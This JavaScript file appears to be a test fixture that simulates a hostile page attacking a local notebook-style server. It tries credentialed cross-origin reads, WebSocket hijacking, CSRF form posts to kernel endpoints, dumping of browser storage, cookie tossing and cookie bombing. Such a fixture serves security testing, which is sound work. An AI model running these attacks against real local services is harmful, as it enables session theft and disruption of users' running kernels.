// What a page of another program tries in the owner's browser. `attack` gives how many attempts it made, what it could read,
// and everything that the browser keeps for its own place. `known` is the secret path, where it has been learned.

window.attack = async ({ hosts, port, known, session }) => {
  const got = [];
  let tries = 0;
  const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 8000))]);
  const running = [];
  const attempt = (name, run) => {
    tries += 1;
    const ended = within(run()).then(
      (read) => {
        if (read) got.push(`${name}: ${String(read).slice(0, 300)}`);
      },
      () => {}, // The browser or the server has refused it.
    );
    running.push(ended);
  };

  const paths = ["/", "/proof", "/enter", "/again", `/${known}/evening/`, `/${known}/drafts-key`, `/${known}/evening/health`];
  const body = () => new URLSearchParams({ code: "ABCDEFGHJKLM", token: "x", to: "/week/" });
  for (const host of hosts) {
    const origin = `http://${host}:${port}`;
    for (const path of paths) {
      for (const credentials of ["include", "omit"]) {
        for (const method of ["GET", "POST"]) {
          attempt(`fetch ${method} ${credentials} ${path}`, async () => (await fetch(origin + path, { method, credentials, ...(method === "POST" && { body: body() }) })).text());
        }
      }
      attempt(`fetch without reading ${path}`, async () => (await fetch(origin + path, { mode: "no-cors", credentials: "include" })).text());
      attempt(`fetch with headers ${path}`, async () => (await fetch(origin + path, { method: "POST", headers: { "Duskbook-Window": "x" }, credentials: "include" })).text());
      attempt(`request ${path}`, () => new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.withCredentials = true;
        request.onloadend = () => resolve(request.responseText);
        request.open("GET", origin + path);
        request.send();
      }));
      attempt(`events ${path}`, () => new Promise((resolve) => {
        const source = new EventSource(origin + path, { withCredentials: true });
        source.onopen = () => resolve("opened");
        source.onerror = () => resolve("");
      }));
      attempt(`frame ${path}`, () => new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.onload = () => {
          let read = "";
          try {
            read = frame.contentDocument?.URL === "about:blank" ? "" : frame.contentDocument?.documentElement.outerHTML;
          } catch {
            // of another origin
          }
          frame.remove();
          resolve(read);
        };
        frame.src = origin + path;
        document.body.append(frame);
      }));
    }
    for (const path of ["/proof?nonce=00000000000000000000000000000000", `/${known}/evening/ws?session_id=${session}&window=x`, `/${known}/evening/ws?session_id=${session}`]) {
      attempt(`socket ${path}`, () => new Promise((resolve) => {
        const socket = new WebSocket(`ws://${host}:${port}${path}`);
        socket.onopen = () => resolve("opened");
        socket.onmessage = ({ data }) => resolve(data);
        socket.onclose = () => resolve("");
      }));
    }
    for (const path of [`/${known}/evening/assets/index.js`, `/${known}/evening/`, "/favicon.ico", `/${known}/browser/0123456789abcdef/evening.js`]) {
      attempt(`script ${path}`, () => new Promise((resolve) => {
        const script = document.createElement("script");
        script.onload = () => resolve("ran");
        script.onerror = () => resolve("");
        script.src = origin + path;
        document.head.append(script);
      }));
    }
    for (const [path, fields] of [["/enter", { code: "ABCDEFGHJKLM" }], ["/enter", { token: "x" }], ["/enter", { key: "x" }], ["/again", { nonce: "0".repeat(32) }], [`/${known}/evening/api/kernel/set_model_value`, { x: "{}" }], [`/${known}/evening/api/kernel/restart_session`, { x: "{}" }]]) {
      attempt(`form ${path}`, () => new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.name = `frame${host}${path}${Object.keys(fields)}`;
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: origin + path, target: frame.name });
        for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement("input"), { name, value }));
        document.body.append(frame, form);
        frame.onload = () => {
          let read = "";
          try {
            read = frame.contentDocument?.URL === "about:blank" ? "" : frame.contentDocument?.documentElement.outerHTML;
          } catch {
            // of another origin
          }
          resolve(read);
        };
        form.submit();
      }));
    }
    for (const path of ["/", `/${known}/evening/`]) {
      attempt(`window ${path}`, async () => {
        const opened = window.open(origin + path, `_blank`);
        if (!opened) return "";
        let read = "";
        for (let i = 0; i < 10; i += 1) {
          await new Promise((resolve) => setTimeout(resolve, 100));
          try {
            if (opened.document.URL !== "about:blank") read ||= opened.document.documentElement.outerHTML;
            if (opened.document.URL !== "about:blank") read ||= JSON.stringify(opened.localStorage);
          } catch {
            // of another origin
          }
        }
        opened.close();
        return read;
      });
    }
  }
  await Promise.all(running);
  return { tries, got, kept: await window.kept() };
};

// Everything that a page of this place can read of what the browser keeps.
window.kept = async () => {
  const kept = { cookie: document.cookie, local: { ...localStorage }, session: { ...sessionStorage }, name: window.name };
  kept.databases = (await indexedDB.databases?.()) ?? [];
  kept.caches = (await globalThis.caches?.keys().catch(() => [])) ?? [];
  kept.store = (await globalThis.cookieStore?.getAll().catch(() => [])) ?? [];
  kept.workers = ((await navigator.serviceWorker?.getRegistrations().catch(() => [])) ?? []).map((one) => one.scope);
  kept.files = await navigator.storage?.getDirectory?.().then(async (top) => {
    const names = [];
    for await (const name of top.keys()) names.push(name);
    return names;
  }).catch(() => []);
  kept.resources = performance.getEntriesByType("resource").map((entry) => entry.name);
  kept.referrer = document.referrer;
  return JSON.stringify(kept);
};

// As many and as long cookies as a browser takes, names and values that break parsers, and ours with another value.
window.plant = async ({ cookie, known }) => {
  for (const path of ["/", `/${known}/`, `/${known}/evening/`]) {
    document.cookie = `user={"name":"Ana"}; path=${path}`;
    document.cookie = `${cookie}=of-another-program; path=${path}`;
    document.cookie = `${cookie}="; path=${path}`;
    document.cookie = `=${cookie}=nameless; path=${path}`;
    document.cookie = `x=${cookie}=inside; path=${path}`;
  }
  for (const domain of ["localhost", location.hostname]) document.cookie = `${cookie}=wide; path=/; domain=${domain}`;
  for (let i = 0; i < 200; i += 1) document.cookie = `c${i}=${"x".repeat(4000)}; path=/; Priority=High`;
  if (location.hostname.endsWith("localhost") || location.hostname === "127.0.0.1") {
    await navigator.serviceWorker.register("/worker.js", { scope: "/" }).catch(() => {});
  }
  return 220;
};
